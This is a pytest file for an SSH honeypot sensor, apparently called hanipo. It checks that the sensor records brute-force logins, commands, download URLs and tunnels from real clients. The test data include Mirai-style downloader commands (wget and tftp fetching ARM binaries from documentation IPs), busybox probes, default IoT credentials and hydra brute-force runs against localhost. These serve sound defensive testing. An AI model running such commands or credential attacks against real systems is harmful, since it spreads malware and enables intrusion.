"""test_ssh.py - the SSH sensor against real clients: paramiko (password and key attempts, exec,
shell), Debian's hydra (every pair recorded), nmap -sV (names OpenSSH), OpenSSH's ssh; HASSH
checked against a Python reading of the stored KEXINIT; host keys per install; caps."""
import hashlib
import os
import shutil
import socket
import stat
import struct
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import scaled, wait_event, wait_until

sys.path.insert(0, "/usr/lib/python3/dist-packages")    # Debian's paramiko, whatever python runs
paramiko = pytest.importorskip("paramiko")

BANNER = "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10"


def ssh_config(h, extra=""):
    return (
        "[sensor]\nname = test-sensor\n"
        f"[store]\npath = {h.store}\n"
        "[log]\naccess_log =\nhunting_log =\n"
        "[ssh]\n"
        f"listen = 127.0.0.1:{h.port}\n" + extra)


KEYS = {}


@pytest.fixture(scope="module", autouse=True)
def shared_host_keys(tmp_path_factory):
    """Host keys made once by the binary (hanipo check) and copied into most installs: making
    an RSA key per test is slow. test_host_keys_per_install makes its own."""
    d = tmp_path_factory.mktemp("sshkeys")
    (d / "c.conf").write_text(f"[store]\npath = {d}/s/x.db\n[ssh]\nlisten = 127.0.0.1:1\n")
    subprocess.run([os.environ.get("HANIPO_BIN", str(Path(__file__).resolve().parents[2] /
                    "build" / "hanipo")), "check", "-c", str(d / "c.conf")], check=True,
                   capture_output=True, timeout=scaled(60))
    KEYS["dir"] = d / "s" / "ssh"
    yield
    KEYS.clear()


def start_ssh(make_hanipo, extra="", *overrides, fresh_keys=False):
    h = make_hanipo(*overrides, start=False)
    if "accept = list" in extra and "credentials" not in extra:
        # Nothing a test tries gets in: one pair no client sends.
        (h.dir / "creds").write_text("nobody:never-tried\n")
        extra += f"credentials = {h.dir / 'creds'}\n"
    h.config.write_text(ssh_config(h, extra))
    if not fresh_keys and "host_key_dir" not in extra:
        shutil.copytree(KEYS["dir"], h.store.parent / "ssh")
    return h.start()


def transport(h):
    t = paramiko.Transport(("127.0.0.1", h.port))
    t.banner_timeout = scaled(10)
    t.start_client(timeout=scaled(10))
    return t


def try_password(t, user, pw):
    try:
        t.auth_password(user, pw)
        return True
    except paramiko.AuthenticationException:
        return False


def logins(h, **want):
    return [r for r in h.events("login")
            if all(r["fields"].get(k) == v for k, v in want.items())]


def kexinit_hassh(raw):
    """HASSH of a client head (identification line + first packet) as stored: parsed here."""
    nl = raw.index(b"\n")
    pkt = raw[nl + 1:]
    plen, pad = struct.unpack(">IB", pkt[:5])
    payload = pkt[5:4 + plen - pad]
    assert payload[0] == 20
    off, lists = 17, []
    for _ in range(10):
        (n,) = struct.unpack(">I", payload[off:off + 4])
        lists.append(payload[off + 4:off + 4 + n].decode())
        off += 4 + n
    algs = ";".join([lists[0], lists[2], lists[4], lists[6]])
    return hashlib.md5(algs.encode()).hexdigest(), algs


def test_banner_kexinit_and_passwords(make_hanipo):
    h = start_ssh(make_hanipo)
    t = transport(h)
    assert t.remote_version == BANNER
    # The default policy (repeat:5): a pair sent again within 5 tries gets in.
    assert not try_password(t, "root", "xc3511")
    assert not try_password(t, "root", "vizxv")
    assert try_password(t, "root", "xc3511")
    t.close()
    rows = wait_event(h, "login", count=3)
    got = [(r["fields"]["user"], r["fields"]["password"], r["fields"]["success"]) for r in rows]
    assert got == [("root", "xc3511", False), ("root", "vizxv", False), ("root", "xc3511", True)]
    assert all(r["fields"]["method"] == "password" for r in rows)
    hello = wait_event(h, "hello")[0]
    assert hello["fields"]["version"] == f"SSH-2.0-paramiko_{paramiko.__version__}"
    hassh, algs = kexinit_hassh(bytes(hello["payload"]))
    assert hello["fields"]["hassh"] == hassh
    assert hello["fields"]["hassh_algorithms"] == algs
    assert all(r["fields"]["hassh"] == hassh for r in rows)
    assert all(r["fields"]["client"] == hello["fields"]["version"] for r in rows)
    assert all(r["session"] == hello["session"] and r["src_port"] > 0 for r in rows)


def test_publickey_attempts_recorded(make_hanipo, tmp_path):
    h = start_ssh(make_hanipo)
    keys = [paramiko.Ed25519Key.from_private_key_file(make_key(tmp_path, "ed25519")),
            paramiko.RSAKey.generate(2048), paramiko.ECDSAKey.generate()]
    t = transport(h)
    for k in keys:
        with pytest.raises(paramiko.AuthenticationException):
            t.auth_publickey("admin", k)
    t.close()
    rows = wait_event(h, "login", count=3)
    for k, r in zip(keys, rows):
        f = r["fields"]
        fp = "SHA256:" + __import__("base64").b64encode(
            hashlib.sha256(k.asbytes()).digest()).decode().rstrip("=")
        assert f["method"] == "publickey" and f["user"] == "admin"
        assert f["key_fp"] == fp, (f, fp)
        assert f["key_type"] == k.get_name()
        assert f["success"] is False


def make_key(d, kind):
    path = d / f"id_{kind}"
    if not path.exists():
        subprocess.run(["ssh-keygen", "-q", "-t", kind, "-N", "", "-f", str(path)], check=True)
    return str(path)


def test_openssh_client_key_then_password(make_hanipo, tmp_path):
    h = start_ssh(make_hanipo)
    key = make_key(tmp_path, "ed25519")
    r = subprocess.run(["ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                        "-o", "BatchMode=yes", "-i", key, "-p", str(h.port), "pi@127.0.0.1", "true"],
                       capture_output=True, text=True, timeout=scaled(30))
    assert r.returncode == 255 and "Permission denied (publickey,password)" in r.stderr, r.stderr
    fp = subprocess.run(["ssh-keygen", "-l", "-f", key + ".pub"], capture_output=True,
                        text=True, check=True).stdout.split()[1]
    row = wait_event(h, "login", lambda r: r["fields"]["method"] == "publickey")[0]
    assert row["fields"]["key_fp"] == fp and row["fields"]["user"] == "pi"
    assert f"user=pi key=ssh-ed25519 fp={fp}" in h.cli("events").stdout
    assert row["fields"]["signed"] is False      # OpenSSH asks first; the key is refused
    hello = wait_event(h, "hello")[0]
    assert hello["fields"]["version"].startswith("SSH-2.0-OpenSSH_")
    assert hello["fields"]["hassh"] == kexinit_hassh(bytes(hello["payload"]))[0]


def test_hydra_every_pair_recorded(make_hanipo, tmp_path):
    h = start_ssh(make_hanipo, "accept = list\n")
    users = ["root", "admin", "ubnt"]
    pws = ["123456", "password", "xc3511", "vizxv", "admin1"]
    (tmp_path / "u").write_text("\n".join(users) + "\n")
    (tmp_path / "p").write_text("\n".join(pws) + "\n")
    r = subprocess.run(["hydra", "-L", str(tmp_path / "u"), "-P", str(tmp_path / "p"), "-t", "4",
                        "-I", f"ssh://127.0.0.1:{h.port}"],
                       capture_output=True, text=True, timeout=scaled(120))
    assert "0 valid password" in r.stdout, r.stdout + r.stderr
    want = {(u, p) for u in users for p in pws}
    rows = wait_event(h, "login", lambda r: (r["fields"]["user"], r["fields"]["password"]) in want,
                      count=len(want))
    got = {(r["fields"]["user"], r["fields"]["password"]) for r in rows}
    assert got == want
    assert all(r["fields"]["success"] is False for r in rows)
    hello = h.events("hello")
    assert hello and all(e["fields"]["version"].startswith("SSH-2.0-libssh") for e in hello)
    # hanipo stats ranks them with the other protocols' credentials.
    out = h.cli("stats", "--top", "0").stdout
    creds = out[out.index("top credentials"):].split("\n\n")[0].splitlines()[2:]
    rows = {tuple(ln.split()[1:]) for ln in creds}
    assert {(u, p, "ssh") for u, p in want} <= rows, out


def test_hydra_finds_listed_pair(make_hanipo, tmp_path):
    creds = tmp_path / "creds"
    creds.write_text("# user:password\nadmin:letmein\n")
    h = start_ssh(make_hanipo, f"accept = list\ncredentials = {creds}\n")
    (tmp_path / "p").write_text("123456\nletmein\nroot\n")
    r = subprocess.run(["hydra", "-l", "admin", "-P", str(tmp_path / "p"), "-t", "1", "-I", "-f",
                        f"ssh://127.0.0.1:{h.port}"],
                       capture_output=True, text=True, timeout=scaled(120))
    assert "password: letmein" in r.stdout, r.stdout + r.stderr
    assert wait_event(h, "login", lambda r: r["fields"]["password"] == "letmein"
                      and r["fields"]["success"] is True)


def test_nmap_names_openssh(make_hanipo):
    h = start_ssh(make_hanipo)
    r = subprocess.run(["nmap", "-sV", "-Pn", "-n", "-p", str(h.port), "127.0.0.1"],
                       capture_output=True, text=True, timeout=scaled(180))
    line = [ln for ln in r.stdout.splitlines() if ln.startswith(f"{h.port}/tcp")]
    assert line, r.stdout
    assert "open" in line[0] and "ssh" in line[0] and "OpenSSH 8.9p1 Ubuntu" in line[0], line
    assert "honeypot" not in r.stdout.lower() and "tcpwrapped" not in r.stdout


def server_key(h):
    t = transport(h)
    k = t.get_remote_server_key()
    t.close()
    return k.get_name(), k.get_fingerprint()


def test_host_keys_per_install(make_hanipo):
    a = start_ssh(make_hanipo, fresh_keys=True)
    b = start_ssh(make_hanipo, fresh_keys=True)
    ka, kb = server_key(a), server_key(b)
    assert ka[0] == kb[0] and ka[1] != kb[1]
    for h in (a, b):
        d = h.store.parent / "ssh"
        assert stat.S_IMODE(d.stat().st_mode) == 0o700
        names = sorted(p.name for p in d.iterdir())
        assert names == ["ssh_host_ecdsa_key", "ssh_host_ed25519_key", "ssh_host_rsa_key"]
        for p in d.iterdir():
            assert stat.S_IMODE(p.stat().st_mode) == 0o600
    files_a = {p.name: p.read_bytes() for p in (a.store.parent / "ssh").iterdir()}
    files_b = {p.name: p.read_bytes() for p in (b.store.parent / "ssh").iterdir()}
    assert all(files_a[n] != files_b[n] for n in files_a)
    # The same install keeps its keys across restarts.
    a.stop()
    a.start()
    assert server_key(a) == ka


def test_host_key_dir_and_banner_keys(make_hanipo, tmp_path):
    kd = tmp_path / "keys" / "here"
    h = start_ssh(make_hanipo, f"host_key_dir = {kd}\nbanner = SSH-2.0-OpenSSH_7.4\n")
    t = transport(h)
    assert t.remote_version == "SSH-2.0-OpenSSH_7.4"
    t.close()
    assert (kd / "ssh_host_ed25519_key").exists()
    assert not (h.store.parent / "ssh").exists()


@pytest.mark.parametrize("line,why", [
    ("banner = OpenSSH_8.9", "banner"),
    ("banner = SSH-2.0-honeypot", "banner"),
    ("accept = sometimes", "accept"),
    ("max_auth_tries = 0", "max_auth_tries"),
])
def test_bad_config(make_hanipo, line, why):
    h = make_hanipo(start=False)
    h.config.write_text(ssh_config(h, line + "\n"))
    r = h.cli("check", check=False)
    assert r.returncode == 2, r.stdout
    assert f"{h.config}:" in r.stderr and why in r.stderr


def test_bad_credentials_file(make_hanipo, tmp_path):
    creds = tmp_path / "creds"
    creds.write_text("root:root\nnocolon\n")
    h = make_hanipo(start=False)
    h.config.write_text(ssh_config(h, f"credentials = {creds}\n"))
    r = h.cli("check", check=False)
    assert r.returncode == 2 and f"{creds}:2:" in r.stderr, r.stderr


def test_max_auth_tries_closes(make_hanipo):
    h = start_ssh(make_hanipo, "accept = list\nmax_auth_tries = 3\n")
    t = transport(h)
    results = []
    for i in range(5):
        try:
            results.append(try_password(t, "root", f"pw{i}"))
        except (paramiko.SSHException, EOFError, OSError):
            results.append("closed")
            break
    active = t.is_active()
    t.close()
    # Past the third refusal the server hangs up (paramiko may report the next try as refused).
    assert results[:3] == [False, False, False] and not active, results
    rows = wait_event(h, "login", count=3)
    assert len(h.events("login")) == 3
    assert wait_event(h, "close", lambda r: r["fields"]["reason"] == "max_auth_tries")


def test_not_ssh_recorded(make_hanipo):
    """A first line that is not an SSH identification: recorded, answered as OpenSSH does."""
    h = start_ssh(make_hanipo)
    got = b""
    with socket.create_connection(("127.0.0.1", h.port), timeout=scaled(5)) as s:
        got = s.recv(256)
        assert got == BANNER.encode() + b"\r\n"
        s.sendall(b"GET / HTTP/1.1\r\n")
        time.sleep(0.2)
        s.sendall(b"Host: x\r\n\r\n")
        try:
            while True:
                b = s.recv(4096)
                if not b:
                    break
                got += b
        except OSError:
            pass
    assert got == BANNER.encode() + b"\r\nInvalid SSH identification string.\r\n"
    row = wait_event(h, "payload")[0]
    assert bytes(row["payload"]) == b"GET / HTTP/1.1\r\n"
    assert row["fields"]["detected"] == "not_ssh"
    assert wait_event(h, "close", lambda r: r["fields"]["reason"] == "not_ssh")


def test_reply_waits_for_store(make_hanipo):
    """Every login answer the client saw has its event stored: kill -9 right after the answer."""
    h = start_ssh(make_hanipo, "accept = list\n")
    t = transport(h)
    assert not try_password(t, "root", "before-kill")
    h.proc.kill()
    h.proc.wait()
    h.proc = None
    h.stderr.close()
    t.close()
    assert logins(h, password="before-kill")


def client(h, user="root", password="x"):
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect("127.0.0.1", h.port, username=user, password=password, look_for_keys=False,
              allow_agent=False, timeout=scaled(10), banner_timeout=scaled(10),
              auth_timeout=scaled(10))
    return c


def recv_until(ch, marker, timeout=10.0):
    buf = b""
    deadline = time.monotonic() + scaled(timeout)
    while marker not in buf:
        assert time.monotonic() < deadline, f"no {marker!r} in {buf!r}"
        if ch.recv_ready():
            buf += ch.recv(65536)
        elif ch.closed or ch.exit_status_ready():
            buf += ch.recv(65536) if ch.recv_ready() else b""
            if marker not in buf:
                raise AssertionError(f"channel closed without {marker!r}: {buf!r}")
        else:
            time.sleep(0.02)
    return buf


def test_exec_through_the_shell(make_hanipo):
    h = start_ssh(make_hanipo, "accept = any\n[device]\nhostname = cam-01\n")
    c = client(h)
    _, out, _ = c.exec_command("uname -n; busybox MIRAI; wget http://198.51.100.7/bins/x.arm7",
                               timeout=scaled(10))
    text = out.read()
    status = out.channel.recv_exit_status()
    c.close()
    assert text.startswith(b"cam-01\nMIRAI: applet not found\n"), text
    assert b"\r\n" not in text                      # no terminal, no CR
    assert status != 0
    cmd = wait_event(h, "command")[0]
    assert cmd["fields"]["command"] == "uname -n; busybox MIRAI; wget http://198.51.100.7/bins/x.arm7"
    assert cmd["fields"]["mode"] == "exec" and cmd["fields"]["user"] == "root"
    url = wait_event(h, "download_url")[0]
    assert url["fields"]["url"] == "http://198.51.100.7/bins/x.arm7"
    login = wait_event(h, "login")[0]
    assert login["seq"] < cmd["seq"] < url["seq"]


def test_interactive_shell(make_hanipo):
    h = start_ssh(make_hanipo, "accept = any\n")
    c = client(h, user="admin", password="admin")
    ch = c.invoke_shell()
    assert recv_until(ch, b"$ ").startswith(b"admin@router:")
    ch.send(b"cd /tmp; echo -e '\\x6b\\x61\\x6d\\x69'\r")
    out = recv_until(ch, b"/tmp$ ")
    assert b"\r\nkami\r\n" in out, out
    ch.send(b"ecjo\x7f\x7fho hi\r")             # erased characters never reach the shell
    out = recv_until(ch, b"/tmp$ ")
    assert b"\r\nhi\r\n" in out, out
    ch.send(b"exit 3\r")
    assert ch.recv_exit_status() == 3
    c.close()
    cmds = [r["fields"]["command"] for r in wait_event(h, "command", count=3)]
    assert cmds == ["cd /tmp; echo -e '\\x6b\\x61\\x6d\\x69'", "echo hi", "exit 3"]


def test_shell_without_pty_like_a_bot(make_hanipo):
    h = start_ssh(make_hanipo, "accept = any\n")
    c = client(h)
    ch = c.get_transport().open_session()
    ch.invoke_shell()
    ch.sendall(b"cat /proc/mounts; /bin/busybox ECCHI\ntftp -g -l d -r mirai.arm 203.0.113.9\n")
    ch.shutdown_write()
    out = recv_until(ch, b"ECCHI: applet not found")
    assert b"\r" not in out
    ch.recv_exit_status()
    c.close()
    url = wait_event(h, "download_url")[0]["fields"]
    assert "203.0.113.9" in url["url"] and "mirai.arm" in url["url"], url
    assert len(wait_event(h, "command", count=2)) == 2


def test_channel_data_cap(make_hanipo):
    h = start_ssh(make_hanipo, "accept = any\nmax_channel_data = 4k\n")
    c = client(h)
    ch = c.get_transport().open_session()
    ch.invoke_shell()
    try:
        for _ in range(20):
            ch.sendall(b"echo " + b"a" * 1000 + b"\n")
            time.sleep(0.01)
    except (OSError, EOFError, paramiko.SSHException):
        pass
    wait_event(h, "close", lambda r: r["fields"]["reason"] == "max_channel_data")
    c.close()


def test_channels_refused_before_login_and_past_cap(make_hanipo):
    h = start_ssh(make_hanipo, "accept = any\nmax_channels = 2\n")
    c = client(h)
    t = c.get_transport()
    a, b = t.open_session(), t.open_session()
    with pytest.raises(paramiko.ChannelException):
        t.open_session(timeout=scaled(5))
    a.close()
    b.close()
    c.close()


def test_port_forwarding_recorded_and_refused(make_hanipo):
    h = start_ssh(make_hanipo, "accept = any\n")
    c = client(h, user="pi", password="raspberry")
    t = c.get_transport()
    with pytest.raises(paramiko.ChannelException):
        t.open_channel("direct-tcpip", ("smtp.example.com", 25), ("127.0.0.1", 40000),
                       timeout=scaled(5))
    with pytest.raises(paramiko.SSHException):
        t.request_port_forward("0.0.0.0", 8081)
    c.close()
    rows = wait_event(h, "tunnel", count=2)
    f = [r["fields"] for r in rows]
    assert f[0] == {"type": "direct-tcpip", "host": "smtp.example.com", "port": 25,
                    "orig_host": "127.0.0.1", "orig_port": 40000, "user": "pi"}
    assert f[1] == {"type": "tcpip-forward", "host": "0.0.0.0", "port": 8081, "user": "pi"}
    # hanipo events shows each SSH kind in one line.
    out = h.cli("events").stdout
    assert "direct-tcpip host=smtp.example.com port=25" in out, out
    assert "tcpip-forward host=0.0.0.0 port=8081" in out, out
    assert "user=pi pass=raspberry (in)" in out, out
    assert f"SSH-2.0-paramiko_{paramiko.__version__} hassh=" in out, out


def test_cut_first_line_recorded_before_close(make_hanipo):
    h = start_ssh(make_hanipo)
    with socket.create_connection(("127.0.0.1", h.port), timeout=scaled(5)) as s:
        assert s.recv(256).startswith(b"SSH-2.0-")
        s.sendall(b"SSH-2.0-cut")
        time.sleep(0.3)
    row = wait_event(h, "payload")[0]
    assert bytes(row["payload"]) == b"SSH-2.0-cut"
    assert row["fields"] == {"detected": "ssh", "incomplete": "eof"}
    close = wait_event(h, "close", lambda r: r["session"] == row["session"])[0]
    assert row["seq"] < close["seq"] and close["fields"]["reason"] == "eof"


def test_sighup_rereads_credentials(make_hanipo, tmp_path):
    creds = tmp_path / "creds"
    creds.write_text("admin:first\n")
    h = start_ssh(make_hanipo, f"accept = list\ncredentials = {creds}\n")
    t = transport(h)
    assert try_password(t, "admin", "first")
    t.close()
    creds.write_text("admin:second\n")
    h.proc.send_signal(__import__("signal").SIGHUP)
    time.sleep(scaled(0.5))

    def second_works():
        t = transport(h)
        try:
            return try_password(t, "admin", "second")
        finally:
            t.close()
    wait_until(second_works, what="the new pair to succeed")
    t = transport(h)
    assert not try_password(t, "other", "first")
    t.close()
